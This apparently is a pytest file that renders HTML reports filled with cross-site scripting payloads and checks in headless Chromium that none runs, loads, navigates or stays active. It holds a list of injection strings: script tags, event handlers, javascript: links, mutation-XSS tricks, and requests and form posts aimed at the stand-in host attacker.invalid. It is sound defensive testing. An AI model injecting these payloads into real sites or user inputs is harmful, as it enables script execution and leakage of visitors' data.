"""Each payload alone in every field of a report: one that swallows the rest hides no other."""

import shutil
from pathlib import Path
from typing import Any

import pytest

from recrate.report.page import render_page
from report_accounts import hostile

sync_api = pytest.importorskip("playwright.sync_api", reason="needs playwright (Python package)")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]

PAYLOADS = (
    "<script>HIT</script>",
    "</script><script>HIT</script>",
    "</style><script>HIT</script>",
    "</title></head><script>HIT</script>",
    "--><script>HIT</script><!--",
    "<img src=x onerror=HIT>",
    '"><img src=x onerror=HIT>',
    "'><img src=x onerror='HIT'>",
    '" autofocus onfocus="HIT" x="',
    "<svg onload=HIT></svg>",
    "<svg><script>HIT</script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.HIT</script>'></iframe></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror=HIT></style></mglyph></table></mtext>",
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '"></iframe><iframe srcdoc="&lt;script&gt;parent.HIT&lt;/script&gt;">',
    "<iframe src=javascript:parent.HIT></iframe>",
    "<a id=bait href='javascript:HIT'>click</a>",
    "<a id=bait href='java&#9;script:HIT' target=_top>click</a>",
    "[click](javascript:HIT)",
    "<style>@import 'http://attacker.invalid/a';*{background:url(http://attacker.invalid/b)}</style>",
    "<p style='background:url(http://attacker.invalid/c)'>x</p>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/d'>",
    "<base href='http://attacker.invalid/'>",
    "<link rel=stylesheet href='http://attacker.invalid/e.css'>",
    "<img src='http://attacker.invalid/f?",
    "<img srcset='http://attacker.invalid/g 1x' src='https://attacker.invalid/h.png'>",
    "<form id=bait action='http://attacker.invalid/i'><input name=a autofocus><button>x</button>",
    "<button id=bait form=bait formaction='javascript:HIT'>x</button>",
    "<object data='http://attacker.invalid/j'></object><embed src='http://attacker.invalid/k'>",
    "<video src='http://attacker.invalid/l' onerror=HIT></video><audio src=x onerror=HIT></audio>",
    "<details open ontoggle=HIT><summary>x</summary></details>",
    "<template><script>HIT</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "{{ ''.__class__ }}{% raw %}<script>HIT</script>",
    "\u202e<script>HIT</script>\u2066\x00\x1b[31m<img src=x onerror=HIT>\x1b]8;;javascript:HIT\x07",
    "<p id=language-en name=language><input name=show id=show-all><p id=verdict>",
)

ACTIVE = (
    "iframe, object, embed, form, base, video, audio, math, template, meta[http-equiv=refresh],"
    " [onerror], [onload], [onfocus], [ontoggle], [style], a:not([href^='#'])"
)


def test_no_payload_in_any_field_runs_loads_navigates_or_stays_active(tmp_path: Path) -> None:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page()
        asked: list[str] = []
        dialogs: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        found = {
            payload: trouble
            for number, payload in enumerate(PAYLOADS)
            if (trouble := _attack(page, tmp_path / f"{number}.html", payload, asked))
        }
        assert found == {}
        assert dialogs == []
        assert len(page.context.pages) == 1
        browser.close()


def _attack(page: Any, path: Path, payload: str, asked: list[str]) -> list[str]:
    """Open a report full of `payload`, touch what can be touched, and return what went wrong."""
    html = render_page(hostile(payload.replace("HIT", "alert(window.hit=1)")))
    path.write_text(html, "utf-8")
    asked.clear()
    page.goto(path.as_uri())
    page.evaluate(
        """() => {
          document.querySelectorAll("details").forEach((one) => { one.open = true; });
          document.querySelectorAll("#bait").forEach((one) => one.click());
        }"""
    )
    page.wait_for_timeout(40)
    counts = {
        "active": page.locator(ACTIVE).count(),
        "scripts": page.locator("script").count() - 1,
        "styles": page.locator("style, link").count() - 2,
        "verdicts": page.locator("#verdict").count() - 1,
        "languages": page.locator("#language-en").count() - 1,
        "controls": page.locator("input:not([type=radio])").count(),
    }
    trouble = [f"{name}: {count}" for name, count in counts.items() if count]
    trouble += [url for url in asked if not url.startswith(("data:", path.as_uri()))]
    if page.evaluate("typeof window.hit") != "undefined":
        trouble.append("it ran")
    return trouble if page.url == path.as_uri() else [*trouble, f"went to {page.url}"]
